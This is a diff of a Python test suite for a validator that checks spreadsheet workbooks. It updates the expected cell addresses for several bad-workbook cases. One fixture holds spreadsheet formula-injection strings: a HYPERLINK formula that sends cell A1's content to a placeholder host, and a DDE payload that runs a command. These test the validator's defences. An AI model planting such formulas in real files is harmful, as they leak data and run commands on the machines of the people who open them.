@@ -268,7 +268,7 @@ def formula_like_texts(workbook: openpyxl.Workbook) -> None:
     """Type texts that a spreadsheet would run as formulas (as Excel keeps them after a leading ')."""
     ws = workbook[contract.OPERATIONS]
     for address, text in {"B2": '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")',
-                          "B3": "+cmd|' /C calc'!A0", "B4": "-2+3", "Q2": "@SUM(A1:A9)",
+                          "B3": "+cmd|' /C calc'!A0", "B4": "-2+3", "R2": "@SUM(A1:A9)",
                           "G3": "=1+2"}.items():  # G3: an amount, shown back in Contrôles
         ws[address].value = text
         ws[address].data_type = "s"
@@ -428,7 +428,7 @@ CASES: list[BadBook] = [
     BadBook("missing-required-sheet", factory_book("sans-jalons.xlsx", drop_sheet(JAL)), BLOCKING,
             (("DQ-SHEET", JAL, ""),)),
     BadBook("missing-required-column", factory_book("sans-cout.xlsx", rename_header(OPS, COST, "Coût")), BLOCKING,
-            (("DQ-COL", OPS, "R1"),)),  # reported where it should be added, after the last header
+            (("DQ-COL", OPS, "T1"),)),  # reported where it should be added, after the last header
     BadBook("header-below-row-10", factory_book("titre-long.xlsx", title_rows={OPS: 10}), BLOCKING,
             (("DQ-COL", OPS, "A1"),)),  # the sheet is not read at all: one problem, not one per row
     BadBook("required-cell-empty", factory_book("libelle-vide.xlsx", cell(OPS, 1, "Libellé", None)), BLOCKING,
@@ -449,7 +449,7 @@ CASES: list[BadBook] = [
     BadBook("negative-amount", factory_book("negatif.xlsx", cell(FIN, 2, "Montant convention (€)", -1)), BLOCKING,
             (("DQ-NEG", FIN, "C3"),)),
     BadBook("personal-data-column", factory_book("noms.xlsx", add_column(REL, "Nom du ménage")), BLOCKING,
-            (("DQ-PRIV", REL, "K1"),)),
+            (("DQ-PRIV", REL, "M1"),)),
     BadBook("text-date-read", factory_book("semestre.xlsx", cell(JAL, 1, "Date convention", "S1 2010")), OK,
             (("DQ-TEXTDATE", JAL, "C2"),)),
     BadBook("parameter-unreadable", factory_book("seuil.xlsx", cell(PAR, 13, "Valeur", "six")), OK,
@@ -463,7 +463,7 @@ CASES: list[BadBook] = [
                                                       title_rows={OPS: 1}), OK),
     # ---- formulas
     BadBook("formula-saved-by-openpyxl", factory_book("formule.xlsx", cell(OPS, 1, "Commentaire", "=1+1")), OK,
-            (("DQ-FORMULA", OPS, "Q2"),)),  # no cached value: read as empty, with a warning
+            (("DQ-FORMULA", OPS, "S2"),)),  # no cached value: read as empty, with a warning
     BadBook("formula-without-value-in-required-cell", factory_book("formule-cout.xlsx", cell(OPS, 1, COST,
                                                                                             "=1200000*2")),
             BLOCKING, (("DQ-REQ", OPS, "G2"), ("DQ-FORMULA", OPS, "G2"))),
@@ -565,7 +565,7 @@ CASES: list[BadBook] = [
         cell(REL, 1, "N° ménage", "M-001\u200b"))), OK),  # a zero-width space: another id, not a duplicate
     # ---- headers
     BadBook("duplicate-headers", factory_book("entetes-doubles.xlsx", duplicate_header(
-        OPS, COST, [1, 2, 3])), OK, (("DQ-COL", OPS, "R1"),)),  # the first is read; the second is named
+        OPS, COST, [1, 2, 3])), OK, (("DQ-COL", OPS, "T1"),)),  # the first is read; the second is named
     BadBook("second-header-row-further-down", factory_book("entete-repete.xlsx", repeat_header_row(OPS, 3)), OK,
             (("DQ-COL", OPS, "A4"),)),  # a pasted block: its header row is skipped with a warning
     # ---- other producers
